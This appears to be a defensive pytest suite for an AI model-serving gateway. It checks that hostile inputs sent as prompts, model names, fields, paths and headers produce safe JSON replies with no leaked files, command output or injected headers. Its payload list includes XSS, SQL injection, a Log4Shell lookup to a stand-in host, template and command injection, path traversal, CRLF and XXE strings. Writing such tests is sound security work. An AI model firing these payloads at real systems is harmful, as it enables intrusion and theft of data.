"""Texts that do harm where a program takes them for more than texts: each comes back as JSON that no browser
runs, names no file and breaks no header, and the next request is answered.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from .raw_http import Raw, ask
from .spawning import served

TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><svg onload=alert(1)>",
    "javascript:alert(1)",
    "'\"--></style></script><script>alert(1)</script>",
    "\u2028\u2029alert(1)//",
    "'; DROP TABLE models; --",
    "' OR '1'='1",
    '{"$gt": ""}',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% include '/etc/passwd' %}",
    "<%= system('id') %>",
    "$(id); `id` | id && id",
    "../../../../etc/passwd",
    "/proc/self/environ",
    "file:///etc/passwd",
    "\r\nX-Injected: yes\r\n\r\n<html>",
    "%0d%0aX-Injected:%20yes",
    "data: [DONE]\n\ndata: {}",
    "\x00\x1b[2J\x07\x7f",
    "\u202etxt.exe",
    "%s%n%x{0}{__class__}",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "__proto__",
]


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A gateway that names what it does not know, instead of taking the default for it."""
    with served(environment={"NATIVE_HOST_UNKNOWN_MODEL": "refuse"}) as found:
        yield found.url


def harmless(answer: Raw) -> None:
    """No browser runs it, no header came of it, no file's content is in it."""
    assert answer.headers["content-type"].partition(";")[0] in ("application/json", "text/event-stream")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert "x-injected" not in answer.headers
    for leaked in (b"root:", b"uid=", b"PATH=", b"Traceback", str(Path.home()).encode() + b"/."):
        assert leaked not in answer.body


@pytest.mark.parametrize("text", TEXTS)
def test_as_a_prompt_it_is_a_prompt(url: str, text: str) -> None:
    body = json.dumps({"prompt": text, "max_tokens": 4}).encode()
    answer = ask(url, "/api/v1/generate", method="POST", body=body)
    harmless(answer)
    assert answer.status == 200
    assert isinstance(answer.json["response"], str)


@pytest.mark.parametrize("text", TEXTS)
def test_as_a_message_that_is_streamed_every_event_is_one(url: str, text: str) -> None:
    asked = {"messages": [{"role": "user", "content": text}], "max_tokens": 4, "stream": True}
    answer = ask(url, "/v1/chat/completions", method="POST", body=json.dumps(asked).encode())
    harmless(answer)
    assert answer.status == 200
    events = answer.body.decode().split("\n\n")
    assert events[-2:] == ["data: [DONE]", ""]
    for event in events[:-2]:
        assert event.startswith("data: {")
        json.loads(event.removeprefix("data: "))


@pytest.mark.parametrize("text", TEXTS)
def test_as_a_models_name_it_is_no_model(url: str, text: str) -> None:
    body = json.dumps({"model": text, "prompt": "hello"}).encode()
    answer = ask(url, "/api/v1/generate", method="POST", body=body)
    harmless(answer)
    assert (answer.status, answer.kind) == (404, "model_not_found")


@pytest.mark.parametrize("text", TEXTS)
def test_as_an_unknown_member_it_is_refused(url: str, text: str) -> None:
    body = json.dumps({"prompt": "hello", "max_tokens": text}).encode()
    answer = ask(url, "/api/v1/generate", method="POST", body=body)
    harmless(answer)
    assert answer.status == 422


@pytest.mark.parametrize("text", TEXTS)
def test_in_a_path_it_leads_nowhere(url: str, text: str) -> None:
    for target in (f"/{quote(text, safe='')}", f"/v1/models/{quote(text)}", f"/v1/models?x={quote(text)}"):
        answer = ask(url, target)
        harmless(answer)
        assert answer.status == (200 if "?" in target else 404)


@pytest.mark.parametrize(
    "text", [text for text in TEXTS if "\r" not in text and "\0" not in text and "\n" not in text]
)
def test_in_headers_it_is_not_repeated(url: str, text: str) -> None:
    answer = ask(url, headers=[("X-Request-Id", text), ("Accept", text), ("User-Agent", text)])
    harmless(answer)
    assert answer.status == 200
    assert text not in "".join(answer.headers.values())
